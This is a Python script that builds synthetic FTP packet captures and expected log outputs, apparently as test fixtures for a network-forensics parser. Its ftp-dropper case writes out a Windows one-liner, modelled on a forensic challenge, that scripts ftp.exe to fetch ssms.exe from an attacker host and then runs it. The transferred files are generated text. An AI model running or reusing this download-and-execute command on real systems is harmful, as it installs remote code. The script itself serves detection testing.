#!/usr/bin/python3
"""Generate the FTP sample captures and what must come out of them.

    /usr/bin/python3 pcaps/gen_ftp.py [OUTDIR]     (default: the folder of this script)

Kept apart from gen.py (whose helpers it uses) so the FTP cases can be made
and reviewed on their own; the same rules hold: fixed addresses, ports,
sequence numbers and timestamps, so a rerun writes the same bytes, and the
files served are generated text, never malware. For each capture NAME it
writes NAME.pcap, NAME.tsv (the expected blasterlog.txt) and, when a file
crosses the wire complete, NAME.files (name, size, MD5, SHA-256).

Cases: ftp-passive, ftp-active, ftp-cut (data connection reset half way,
then the control connection: no 226), ftp-550 (missing file), ftp-dropper (the forensic-challenge echo
script typed into a shell on TCP 1957, then the victim's ftp.exe fetching
ssms.exe from the attacker's port 8884 in active mode, as ftp.exe does).
"""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import gen  # noqa: E402
from gen import ATTACKER, T0, VICTIM, Capture, Session, payload, write  # noqa: E402

MSS = 1460
FTP_PORT = 8884


class Conn(Session):
    """A TCP connection with no shell banner: handshake, bytes, close."""

    def open(self):
        self.seg(True, "S", seq=self.isn)
        self.seg(False, "SA", seq=self.sisn)
        self.seg(True, "A")

    def from_client(self, data):
        for i in range(0, len(data), MSS):
            part = data[i:i + MSS]
            self.seg(True, "PA", part)
            self.cseq += len(part)
            self.seg(False, "A")

    def from_server(self, data):
        for i in range(0, len(data), MSS):
            part = data[i:i + MSS]
            self.seg(False, "PA", part)
            self.sseq += len(part)
            self.seg(True, "A")

    def fin_from_server(self):
        self.seg(False, "FA")
        self.sseq += 1
        self.seg(True, "FA")
        self.cseq += 1
        self.seg(False, "A")


def ftp_control(cap, t, cport):
    """The victim's control connection to the attacker's FTP server."""
    c = Conn(cap, cli=VICTIM, cport=cport, srv=ATTACKER, sport=FTP_PORT, isn=7000000,
             sisn=9000000, t=t)
    c.open()
    return c


def cmd(c, line):
    c.from_client(line.encode("latin-1") + b"\r\n")


def reply(c, text):
    c.from_server(text.encode("latin-1") + b"\r\n")


def login(c):
    reply(c, "220 StnyFtpd 0wns j0")
    cmd(c, "USER 1")
    reply(c, "331 Password required")
    cmd(c, "PASS 1")
    reply(c, "230 User logged in.")


def data_conn(ctl, active, cport, sport, isn):
    """A data connection starting at the control's time; active: the server opens it."""
    if active:
        d = Conn(ctl.cap, cli=ATTACKER, cport=20, srv=VICTIM, sport=sport, isn=isn,
                 sisn=isn + 500000, t=ctl.t)
    else:
        d = Conn(ctl.cap, cli=VICTIM, cport=cport, srv=ATTACKER, sport=sport, isn=isn,
                 sisn=isn + 500000, t=ctl.t)
    d.open()
    return d


def send_file(d, active, data):
    """File bytes from the FTP server: the connector in active mode, the listener in passive."""
    if active:
        d.from_client(data)
    else:
        d.from_server(data)


def end_data(d, active):
    # the FTP server closes the data connection at the end of the file
    if active:
        d.seg(True, "FA")
        d.cseq += 1
        d.seg(False, "FA")
        d.sseq += 1
        d.seg(True, "A")
    else:
        d.fin_from_server()


def retr(ctl, name, data, active, dport, isn, size_in_150=True, cut_at=None):
    """PORT/PASV, RETR, 150, the data connection, 226 (nothing when cut)."""
    if active:
        cmd(ctl, "PORT 10,0,0,5,%d,%d" % (dport >> 8, dport & 255))
        reply(ctl, "200 PORT command successful.")
    else:
        cmd(ctl, "PASV")
        reply(ctl, "227 Entering Passive Mode (81,132,114,254,%d,%d)." % (dport >> 8, dport & 255))
    cmd(ctl, "RETR " + name)
    d = data_conn(ctl, active, 1200 + (dport & 255), dport, isn)
    reply(ctl, "150 Opening BINARY mode data connection for %s%s." %
          (name, " (%d bytes)" % len(data) if size_in_150 else ""))
    d.t = ctl.t
    if cut_at is None:
        send_file(d, active, data)
        end_data(d, active)
        ctl.t = d.t
        reply(ctl, "226 Transfer complete.")
    else:
        send_file(d, active, data[:cut_at])
        d.seg(not active, "R")   # the link drops: the data connection is reset
        ctl.t = d.t


def quit_(ctl):
    cmd(ctl, "QUIT")
    reply(ctl, "221 Goodbye.")
    ctl.fin_from_server()


def one_file(name, size, active, dport):
    """Login, TYPE I, one RETR in the given mode, QUIT."""
    cap = Capture()
    ctl = ftp_control(cap, T0, 1100)
    login(ctl)
    cmd(ctl, "TYPE I")
    reply(ctl, "200 Type set to I.")
    data = payload(name, size)
    retr(ctl, name, data, active, dport, 3000000)
    quit_(ctl)
    cap.files.append((name, data))
    return cap


def case_passive():
    return one_file("passive.exe", 20000, False, 8836)


def case_active():
    return one_file("active.exe", 9000, True, 1101)


def case_cut():
    cap = Capture()
    ctl = ftp_control(cap, T0, 1100)
    login(ctl)
    retr(ctl, "cut.exe", payload("cut.exe", 12000), False, 8836, 3000000, cut_at=5 * MSS)
    ctl.tick(2)
    ctl.reset()     # and the control connection with it: no 226 ever comes
    return cap


def case_550():
    cap = Capture()
    ctl = ftp_control(cap, T0, 1100)
    login(ctl)
    cmd(ctl, "PASV")
    reply(ctl, "227 Entering Passive Mode (81,132,114,254,34,132).")
    cmd(ctl, "RETR missing.exe")
    reply(ctl, "550 missing.exe: The system cannot find the file specified.")
    quit_(ctl)
    return cap


DROPPER = ("echo open 0.0.0.0 8884 > o&echo user 1 1 >> o &echo get ssms.exe >> o "
           "&echo quit >> o &ftp -n -s:o &del /F /Q o &ssms.exe")


def case_dropper():
    """The forensic-challenge bot: a shell on 1957 that prints only two newlines."""
    cap = Capture()
    sh = Session(cap, cli=ATTACKER, cport=1234, srv=VICTIM, sport=1957, t=T0)
    sh.seg(True, "S", seq=sh.isn)
    sh.seg(False, "SA", seq=sh.sisn)
    sh.seg(True, "A")
    sh.server(b"\r\n\r\n")
    (t,) = sh.send(DROPPER + "\n")[-1:]
    # issue 11: ftp-get (Server as typed, host:port off port 21), then the exec
    cap.expect(t, sh, "ftp-get", "ssms.exe", "0.0.0.0:8884")
    cap.expect(t, sh, "exec", "ssms.exe")
    # ftp.exe: "open 0.0.0.0 8884" reaches the attacker (the NAT rule's source)
    ctl = ftp_control(cap, sh.t + 0.2, 1105)
    login(ctl)
    data = payload("ssms.exe", 6000)
    # no "bin" in the script: ftp.exe stays in ASCII, and in active mode
    retr(ctl, "ssms.exe", data, True, 1106, 3000000, size_in_150=False)
    quit_(ctl)
    sh.t = ctl.t
    sh.close()
    cap.files.append(("ssms.exe", data))
    return cap


CASES = {
    "ftp-passive": case_passive,
    "ftp-active": case_active,
    "ftp-cut": case_cut,
    "ftp-550": case_550,
    "ftp-dropper": case_dropper,
}


def main():
    outdir = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
    for name, fn in CASES.items():
        write(outdir, name, fn())


if __name__ == "__main__":
    assert gen.VICTIM == "10.0.0.5"   # the PORT commands above spell it out
    main()
